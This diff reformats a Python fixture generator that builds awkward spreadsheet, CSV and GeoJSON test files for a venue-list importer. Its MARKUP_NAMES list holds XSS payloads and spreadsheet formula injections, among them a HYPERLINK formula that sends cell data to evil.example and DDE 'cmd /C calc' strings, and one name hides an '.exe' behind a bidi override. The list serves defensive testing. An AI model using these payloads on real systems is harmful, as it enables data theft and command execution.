@@ -319,8 +319,9 @@ def _list_rows(s: pd.DataFrame) -> list[list[Any]]:
     return [_HEAD] + [[s.name[i], float(s.lon[i]), float(s.lat[i]), s.district[i]] for i in range(len(s))]
 
 
-def xlsx_sheets(*, layout: str = "instructions_first", n: int = 5, seed: int = 0
-                ) -> tuple[bytes, str, dict[str, Any]]:
+def xlsx_sheets(
+    *, layout: str = "instructions_first", n: int = 5, seed: int = 0
+) -> tuple[bytes, str, dict[str, Any]]:
     """A workbook whose list is not simply its first sheet.
 
     ``layout``: ``instructions_first`` (a sheet of instructions, then the list),
@@ -332,29 +333,48 @@ def xlsx_sheets(*, layout: str = "instructions_first", n: int = 5, seed: int = 0
     old = _list_rows(sites(3, seed=seed + 99))
     hidden: tuple[str, ...] = ()
     if layout == "instructions_first":
-        sheets: dict[str, Any] = {"填写说明": [["坐标请使用高德坐标"], ["名称请填写全称，不要缩写"], ["区县填写到区"]],
-                                  "场馆名单": rows}
+        sheets: dict[str, Any] = {
+            "填写说明": [["坐标请使用高德坐标"], ["名称请填写全称，不要缩写"], ["区县填写到区"]],
+            "场馆名单": rows,
+        }
     elif layout == "empty_first":
         sheets = {"Sheet1": [], "场馆名单": rows}
     elif layout == "hidden_sheet":
         sheets, hidden = {"旧名单": old, "场馆名单": rows}, ("旧名单",)
     else:
-        sheets = {"封面": [["2024 年宁波市科普场馆"]], "备注": [["数据来源：区科协"], ["更新：2024-05"]],
-                  "场馆名单": [["2024 年科普场馆名单"], [], *rows]}
+        sheets = {
+            "封面": [["2024 年宁波市科普场馆"]],
+            "备注": [["数据来源：区科协"], ["更新：2024-05"]],
+            "场馆名单": [["2024 年科普场馆名单"], [], *rows],
+        }
     data = write_xlsx(sheets, hidden=hidden)
-    return data, f"{layout}.xlsx", {"sheet": "场馆名单", "names": list(s.name), "lon": list(s.lon),
-                                    "lat": list(s.lat), "sheets_with_data": [k for k, v in sheets.items() if v]}
+    return (
+        data,
+        f"{layout}.xlsx",
+        {
+            "sheet": "场馆名单",
+            "names": list(s.name),
+            "lon": list(s.lon),
+            "lat": list(s.lat),
+            "sheets_with_data": [k for k, v in sheets.items() if v],
+        },
+    )
 
 
 def xlsx_header_below(*, title_rows: int = 3, n: int = 6, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
     """A workbook whose header sits under merged title rows (row ``title_rows + 1`` or lower)."""
     s = sites(n, seed=seed)
-    titles = [["宁波市科普场馆名单", "宁波市科普场馆名单", "宁波市科普场馆名单"], ["填报单位：某区科协"], []][:title_rows]
+    titles = [["宁波市科普场馆名单", "宁波市科普场馆名单", "宁波市科普场馆名单"], ["填报单位：某区科协"], []][
+        :title_rows
+    ]
     rows = [*titles, *_list_rows(s)]
     data = write_xlsx({"名单": rows}, merges={"名单": ["A1:C1"]} if title_rows else None)
     header = len(titles) + 1
-    return data, "header_below.xlsx", {"names": list(s.name), "header_row": header,
-                                       "lon": list(s.lon), "lat": list(s.lat)}
+    return (
+        data,
+        "header_below.xlsx",
+        {"names": list(s.name), "header_row": header, "lon": list(s.lon), "lat": list(s.lat)},
+    )
 
 
 def xlsx_formulas(*, cached: bool = True, n: int = 5, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
@@ -363,10 +383,15 @@ def xlsx_formulas(*, cached: bool = True, n: int = 5, seed: int = 0) -> tuple[by
     rows: list[list[Any]] = [["名称", "经度原值", "经度", "纬度"]]
     for i in range(n):
         lon = float(s.lon[i])
-        rows.append([s.name[i], lon - 0.001, ("f", f"B{i + 2}+0.001", lon if cached else None), float(s.lat[i])])
+        rows.append(
+            [s.name[i], lon - 0.001, ("f", f"B{i + 2}+0.001", lon if cached else None), float(s.lat[i])]
+        )
     data = write_xlsx({"名单": rows})
-    return data, f"formulas_{'cached' if cached else 'uncached'}.xlsx", {
-        "names": list(s.name), "lon": list(s.lon), "lat": list(s.lat), "cached": cached}
+    return (
+        data,
+        f"formulas_{'cached' if cached else 'uncached'}.xlsx",
+        {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat), "cached": cached},
+    )
 
 
 def xlsx_dates_as_coordinates(*, n: int = 5, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
@@ -392,12 +417,17 @@ def _dms(v: float, pos: str, neg: str, style: int) -> str:
     m = int(m_float)
     sec = (m_float - m) * 60
     hemi = pos if v >= 0 else neg
-    return [f"{d}°{m}'{sec:.4f}\"{hemi}", f"{d}度{m}分{sec:.4f}秒", f"{hemi}{d}°{m_float:.6f}′",
-            f"{d} {m} {sec:.4f}"][style % 4]
+    return [
+        f"{d}°{m}'{sec:.4f}\"{hemi}",
+        f"{d}度{m}分{sec:.4f}秒",
+        f"{hemi}{d}°{m_float:.6f}′",
+        f"{d} {m} {sec:.4f}",
+    ][style % 4]
 
 
-def text_numbers(*, kind: str = "fullwidth", n: int = 8, seed: int = 0, fmt: str = "csv"
-                 ) -> tuple[bytes, str, dict[str, Any]]:
+def text_numbers(
+    *, kind: str = "fullwidth", n: int = 8, seed: int = 0, fmt: str = "csv"
+) -> tuple[bytes, str, dict[str, Any]]:
     """Coordinates written as text: ``fullwidth`` digits, a ``decimal_comma`` ("121，55"), ``dms``
     (degrees-minutes-seconds in four styles) or with a ``hemisphere`` ("东经121.55").
     """
@@ -410,40 +440,60 @@ def text_numbers(*, kind: str = "fullwidth", n: int = 8, seed: int = 0, fmt: str
         if kind == "decimal_comma":
             return f"{v:.6f}".replace(".", "，" if i % 2 else ",")
         if kind == "hemisphere":
-            return (f"东经{v:.6f}" if axis == "lon" else f"北纬{v:.6f}") if i % 2 else f"{v:.6f}{(axis == 'lon' and 'E') or 'N'}"
+            return (
+                (f"东经{v:.6f}" if axis == "lon" else f"北纬{v:.6f}")
+                if i % 2
+                else f"{v:.6f}{(axis == 'lon' and 'E') or 'N'}"
+            )
         return _dms(v, "E" if axis == "lon" else "N", "W" if axis == "lon" else "S", i)
 
-    table = pd.DataFrame({"名称": s.name, "经度": [write(v, "lon", i) for i, v in enumerate(s.lon)],
-                          "纬度": [write(v, "lat", i) for i, v in enumerate(s.lat)]})
+    table = pd.DataFrame(
+        {
+            "名称": s.name,
+            "经度": [write(v, "lon", i) for i, v in enumerate(s.lon)],
+            "纬度": [write(v, "lat", i) for i, v in enumerate(s.lat)],
+        }
+    )
     truth = {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)}
     if fmt == "xlsx":
         return write_xlsx({"名单": [list(table.columns), *table.to_numpy().tolist()]}), f"{kind}.xlsx", truth
     return table.to_csv(index=False).encode("utf-8"), f"{kind}.csv", truth
 
 
-def lonlat_one_cell(*, order: str = "lonlat", n: int = 6, seed: int = 0, header: str = "坐标"
-                    ) -> tuple[bytes, str, dict[str, Any]]:
+def lonlat_one_cell(
+    *, order: str = "lonlat", n: int = 6, seed: int = 0, header: str = "坐标"
+) -> tuple[bytes, str, dict[str, Any]]:
     """Both coordinates in one cell ("121.55,29.87", as AMap's picker copies them), or lat first."""
     s = sites(n, seed=seed)
     seps = [",", ", ", "，", " ", ";"]
-    cells = [(f"{s.lon[i]}{seps[i % 5]}{s.lat[i]}" if order == "lonlat" else f"{s.lat[i]}{seps[i % 5]}{s.lon[i]}")
-             for i in range(n)]
+    cells = [
+        (f"{s.lon[i]}{seps[i % 5]}{s.lat[i]}" if order == "lonlat" else f"{s.lat[i]}{seps[i % 5]}{s.lon[i]}")
+        for i in range(n)
+    ]
     cells = [f"({c})" if i == 1 else c for i, c in enumerate(cells)]
     table = pd.DataFrame({"名称": s.name, header: cells, "地址": s.address})
-    return table.to_csv(index=False).encode("utf-8"), "one_cell.csv", {
-        "names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)}
+    return (
+        table.to_csv(index=False).encode("utf-8"),
+        "one_cell.csv",
+        {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)},
+    )
 
 
 # --- text files: encodings, line endings, headers ------------------------------------------------
+
 
 def csv_bom_gb18030(*, n: int = 6, seed: int = 0, bom: str = "utf8") -> tuple[bytes, str, dict[str, Any]]:
     """GB18030 text behind a UTF-8 BOM (an editor added it) or GB18030's own BOM."""
     s = sites(n, seed=seed)
     text = "名称,经度,纬度,地址\r\n" + "".join(
-        f"{s.name[i]}·甬,{s.lon[i]},{s.lat[i]},{s.address[i]}\r\n" for i in range(n))
+        f"{s.name[i]}·甬,{s.lon[i]},{s.lat[i]},{s.address[i]}\r\n" for i in range(n)
+    )
     prefix = b"\xef\xbb\xbf" if bom == "utf8" else "\ufeff".encode("gb18030")
-    return prefix + text.encode("gb18030"), "bom_gb18030.csv", {
-        "names": [f"{x}·甬" for x in s.name], "lon": list(s.lon), "lat": list(s.lat)}
+    return (
+        prefix + text.encode("gb18030"),
+        "bom_gb18030.csv",
+        {"names": [f"{x}·甬" for x in s.name], "lon": list(s.lon), "lat": list(s.lat)},
+    )
 
 
 def csv_mixed_line_endings(*, n: int = 9, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
@@ -451,17 +501,24 @@ def csv_mixed_line_endings(*, n: int = 9, seed: int = 0) -> tuple[bytes, str, di
     s = sites(n, seed=seed)
     ends = ["\r\n", "\n", "\r"]
     text = "名称,经度,纬度\r\n" + "".join(f"{s.name[i]},{s.lon[i]},{s.lat[i]}{ends[i % 3]}" for i in range(n))
-    return text.encode("utf-8"), "mixed_endings.csv", {"names": list(s.name), "lon": list(s.lon),
-                                                        "lat": list(s.lat)}
+    return (
+        text.encode("utf-8"),
+        "mixed_endings.csv",
+        {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)},
+    )
 
 
 def csv_duplicate_headers(*, n: int = 5, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
     """Two columns called 名称 (the Chinese and the English name) and two called 备注."""
     s = sites(n, seed=seed)
     lines = ["名称,名称,经度,纬度,备注,备注"] + [
-        f"{s.name[i]},Venue {i},{s.lon[i]},{s.lat[i]},a{i},b{i}" for i in range(n)]
-    return ("\n".join(lines) + "\n").encode(), "dup_headers.csv", {
-        "names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)}
+        f"{s.name[i]},Venue {i},{s.lon[i]},{s.lat[i]},a{i},b{i}" for i in range(n)
+    ]
+    return (
+        ("\n".join(lines) + "\n").encode(),
+        "dup_headers.csv",
+        {"names": list(s.name), "lon": list(s.lon), "lat": list(s.lat)},
+    )
 
 
 # --- names: invisible characters, markup, formulas ------------------------------------------------
@@ -469,11 +526,27 @@ def csv_duplicate_headers(*, n: int = 5, seed: int = 0) -> tuple[bytes, str, dic
 #: Invisible or control characters as they arrive in names: NUL, C0, C1, bidi overrides and
 #: isolates, zero-width characters, BOM, soft hyphen, a Unicode tag, a line break.
 BREAKS = {"\n", "\u2028", "\x85"}  # line breaks become one space
-CONTROL_CHARS = ["\x00", "\x07", "\x1b", "\x85", "\x9b", "\u202e", "\u2066", "\u200b", "\u200d", "\ufeff",
-                 "\u00ad", "\U000e0041", "\n", "\u2028"]
+CONTROL_CHARS = [
+    "\x00",
+    "\x07",
+    "\x1b",
+    "\x85",
+    "\x9b",
+    "\u202e",
+    "\u2066",
+    "\u200b",
+    "\u200d",
+    "\ufeff",
+    "\u00ad",
+    "\U000e0041",
+    "\n",
+    "\u2028",
+]
 
 
-def names_with_control_chars(*, fmt: str = "csv", n: int = 8, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
+def names_with_control_chars(
+    *, fmt: str = "csv", n: int = 8, seed: int = 0
+) -> tuple[bytes, str, dict[str, Any]]:
     """Names with control characters inside; one name is nothing but control characters.
 
     XLSX writes them as the ``_xHHHH_`` escapes Excel uses (a lone surrogate ``_xD800_`` too),
@@ -488,8 +561,12 @@ def names_with_control_chars(*, fmt: str = "csv", n: int = 8, seed: int = 0) -> 
     clean[1] = f"{s.name[1][:2]}gnp.exe{s.name[1][2:]}"
     dirty[-1], clean[-1] = "\x00\u200b\u202e", ""  # nothing left: refused for a missing name
     if fmt == "xlsx":
+
         def esc(t: str) -> str:
-            return "".join(f"_x{ord(c):04X}_" if (ord(c) < 32 or 0xD800 <= ord(c) <= 0xDFFF) else c for c in t)
+            return "".join(
+                f"_x{ord(c):04X}_" if (ord(c) < 32 or 0xD800 <= ord(c) <= 0xDFFF) else c for c in t
+            )
+
         dirty_x = [esc(d) for d in dirty]
         dirty_x[2] = esc(s.name[2][:2]) + "_xD800_" + s.name[2][2:]
         clean[2] = s.name[2]
@@ -498,33 +575,56 @@ def names_with_control_chars(*, fmt: str = "csv", n: int = 8, seed: int = 0) -> 
     elif fmt == "geojson":
         dirty[2] = s.name[2][:2] + "\ud800" + s.name[2][2:]
         clean[2] = s.name[2]
-        feats = [{"type": "Feature", "properties": {"名称": dirty[i], "地址": f"某路{i}号\x00"},
-                  "geometry": {"type": "Point", "coordinates": [float(s.lon[i]), float(s.lat[i])]}}
-                 for i in range(n)]
+        feats = [
+            {
+                "type": "Feature",
+                "properties": {"名称": dirty[i], "地址": f"某路{i}号\x00"},
+                "geometry": {"type": "Point", "coordinates": [float(s.lon[i]), float(s.lat[i])]},
+            }
+            for i in range(n)
+        ]
         data = json.dumps({"type": "FeatureCollection", "features": feats}).encode()
     else:
-        table = pd.DataFrame({"名称": dirty, "经度": s.lon, "纬度": s.lat, "地址": [f"某路{i}\x00号" for i in range(n)]})
+        table = pd.DataFrame(
+            {"名称": dirty, "经度": s.lon, "纬度": s.lat, "地址": [f"某路{i}\x00号" for i in range(n)]}
+        )
         data = table.to_csv(index=False).encode("utf-8")
     return data, f"control_chars.{fmt}", {"clean": clean, "lon": list(s.lon), "lat": list(s.lat)}
 
 
 #: Names that are markup or spreadsheet formulas.
-MARKUP_NAMES = ['<script>alert("x")</script>科技馆', '<img src=x onerror=alert(1)>图书馆',
-                '"><svg onload=alert(1)>', "[点我](javascript:alert(1))", "**粗体**_斜体_ `代码`",
-                '=HYPERLINK("http://evil.example/?q="&A1,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-                "-2+3+cmd|' /C calc'!A0", "\t=1+1", "$5 与 $$10"]
+MARKUP_NAMES = [
+    '<script>alert("x")</script>科技馆',
+    "<img src=x onerror=alert(1)>图书馆",
+    '"><svg onload=alert(1)>',
+    "[点我](javascript:alert(1))",
+    "**粗体**_斜体_ `代码`",
+    '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "$5 与 $$10",
+]
 
 
 def markup_names(*, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
     """A list whose names (and addresses) are HTML, JavaScript, Markdown or spreadsheet formulas."""
     n = len(MARKUP_NAMES)
     s = sites(n, seed=seed)
-    table = pd.DataFrame({"名称": MARKUP_NAMES, "经度": s.lon, "纬度": s.lat,
-                          "地址": [f"<b>某路{i}号</b>" if i % 2 else '=HYPERLINK("x")' for i in range(n)]})
+    table = pd.DataFrame(
+        {
+            "名称": MARKUP_NAMES,
+            "经度": s.lon,
+            "纬度": s.lat,
+            "地址": [f"<b>某路{i}号</b>" if i % 2 else '=HYPERLINK("x")' for i in range(n)],
+        }
+    )
     return table.to_csv(index=False).encode("utf-8"), "markup.csv", {"names": MARKUP_NAMES}
 
 
 # --- geometry files: mixed, missing and 3D geometries, a crs member, a zipped shapefile ------------
+
 
 def geojson_mixed(*, crs: str | None = None, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
     """Points (2D and 3D), a multipoint, a polygon, a line, a null geometry and an empty one.
@@ -543,20 +643,44 @@ def geojson_mixed(*, crs: str | None = None, seed: int = 0) -> tuple[bytes, str,
         {"type": "Point", "coordinates": [x[0], y[0]]},
         {"type": "Point", "coordinates": [x[1], y[1], 12.5]},
         {"type": "MultiPoint", "coordinates": [[x[2], y[2], 3.0]]},
-        {"type": "Polygon", "coordinates": [[[x[3] - d, y[3] - d], [x[3] + d, y[3] - d], [x[3] + d, y[3] + d],
-                                             [x[3] - d, y[3] + d], [x[3] - d, y[3] - d]]]},
+        {
+            "type": "Polygon",
+            "coordinates": [
+                [
+                    [x[3] - d, y[3] - d],
+                    [x[3] + d, y[3] - d],
+                    [x[3] + d, y[3] + d],
+                    [x[3] - d, y[3] + d],
+                    [x[3] - d, y[3] - d],
+                ]
+            ],
+        },
         {"type": "LineString", "coordinates": [[x[4] - d, y[4], 1.0], [x[4] + d, y[4], 2.0]]},
         None,
         {"type": "GeometryCollection", "geometries": []},
     ]
-    feats = [{"type": "Feature", "properties": {"名称": s.name[i]}, "geometry": g} for i, g in enumerate(geoms)]
+    feats = [
+        {"type": "Feature", "properties": {"名称": s.name[i]}, "geometry": g} for i, g in enumerate(geoms)
+    ]
     doc: dict[str, Any] = {"type": "FeatureCollection", "features": feats}
     if crs:
-        name = "urn:ogc:def:crs:OGC:1.3:CRS84" if crs == "CRS84" else f"urn:ogc:def:crs:EPSG::{crs.split(':')[1]}"
+        name = (
+            "urn:ogc:def:crs:OGC:1.3:CRS84"
+            if crs == "CRS84"
+            else f"urn:ogc:def:crs:EPSG::{crs.split(':')[1]}"
+        )
         doc["crs"] = {"type": "name", "properties": {"name": name}}
-    return json.dumps(doc).encode(), "mixed.geojson", {
-        "names": list(s.name), "lon": list(s.lon), "lat": list(s.lat), "placed": [0, 1, 2, 3, 4],
-        "unplaced": [5, 6]}
+    return (
+        json.dumps(doc).encode(),
+        "mixed.geojson",
+        {
+            "names": list(s.name),
+            "lon": list(s.lon),
+            "lat": list(s.lat),
+            "placed": [0, 1, 2, 3, 4],
+            "unplaced": [5, 6],
+        },
+    )
 
 
 def zipped_shapefile(*, n: int = 4, seed: int = 0) -> tuple[bytes, str, dict[str, Any]]:
@@ -573,28 +697,44 @@ def zipped_shapefile(*, n: int = 4, seed: int = 0) -> tuple[bytes, str, dict[str
     return buf.getvalue(), "venues.zip", {"names": list(s.name)}
 
 
-
 MAKERS = {
-    "million_rows": xlsx_million_rows, "declared_rows": xlsx_declared_rows, "big_cell": xlsx_big_cell,
-    "merged": xlsx_merged_category, "semicolon": lambda: csv_delimited(delimiter=";"),
+    "million_rows": xlsx_million_rows,
+    "declared_rows": xlsx_declared_rows,
+    "big_cell": xlsx_big_cell,
+    "merged": xlsx_merged_category,
+    "semicolon": lambda: csv_delimited(delimiter=";"),
     "tab_utf16": lambda: csv_delimited(delimiter="\t", encoding="utf-16"),
-    "title_rows": lambda: csv_delimited(title_rows=2), "traps": lambda: csv_delimited(headers="traps"),
-    "trailing": lambda: csv_delimited(trailing=True, delimiter=";"), "shapes": geojson_shapes,
+    "title_rows": lambda: csv_delimited(title_rows=2),
+    "traps": lambda: csv_delimited(headers="traps"),
+    "trailing": lambda: csv_delimited(trailing=True, delimiter=";"),
+    "shapes": geojson_shapes,
     "empty_props": lambda: geojson_shapes(kinds=("point",), empty_coordinate_props=True),
     "address_only": lambda: geojson_shapes(kinds=("point",), address_only=3),
-    "multi_layer": gpkg_layers, "gcj_unknown": gcj_near_lines, "broken_geojson": malformed_geo,
-    **{f"sheets_{k}": (lambda k=k: xlsx_sheets(layout=k))
-       for k in ("instructions_first", "empty_first", "hidden_sheet", "list_on_sheet3")},
-    "header_below": xlsx_header_below, "formulas_cached": xlsx_formulas,
-    "formulas_uncached": lambda: xlsx_formulas(cached=False), "dates": xlsx_dates_as_coordinates,
-    **{f"text_{k}": (lambda k=k: text_numbers(kind=k))
-       for k in ("fullwidth", "decimal_comma", "dms", "hemisphere")},
-    "one_cell": lonlat_one_cell, "one_cell_latlon": lambda: lonlat_one_cell(order="latlon", header="经纬度"),
-    "bom_gb18030": csv_bom_gb18030, "mixed_endings": csv_mixed_line_endings,
+    "multi_layer": gpkg_layers,
+    "gcj_unknown": gcj_near_lines,
+    "broken_geojson": malformed_geo,
+    **{
+        f"sheets_{k}": (lambda k=k: xlsx_sheets(layout=k))
+        for k in ("instructions_first", "empty_first", "hidden_sheet", "list_on_sheet3")
+    },
+    "header_below": xlsx_header_below,
+    "formulas_cached": xlsx_formulas,
+    "formulas_uncached": lambda: xlsx_formulas(cached=False),
+    "dates": xlsx_dates_as_coordinates,
+    **{
+        f"text_{k}": (lambda k=k: text_numbers(kind=k))
+        for k in ("fullwidth", "decimal_comma", "dms", "hemisphere")
+    },
+    "one_cell": lonlat_one_cell,
+    "one_cell_latlon": lambda: lonlat_one_cell(order="latlon", header="经纬度"),
+    "bom_gb18030": csv_bom_gb18030,
+    "mixed_endings": csv_mixed_line_endings,
     "dup_headers": csv_duplicate_headers,
     **{f"control_{f}": (lambda f=f: names_with_control_chars(fmt=f)) for f in ("csv", "xlsx", "geojson")},
-    "markup": markup_names, "geojson_mixed": geojson_mixed,
-    "geojson_3857": lambda: geojson_mixed(crs="EPSG:3857"), "shapefile_zip": zipped_shapefile,
+    "markup": markup_names,
+    "geojson_mixed": geojson_mixed,
+    "geojson_3857": lambda: geojson_mixed(crs="EPSG:3857"),
+    "shapefile_zip": zipped_shapefile,
 }
 
 
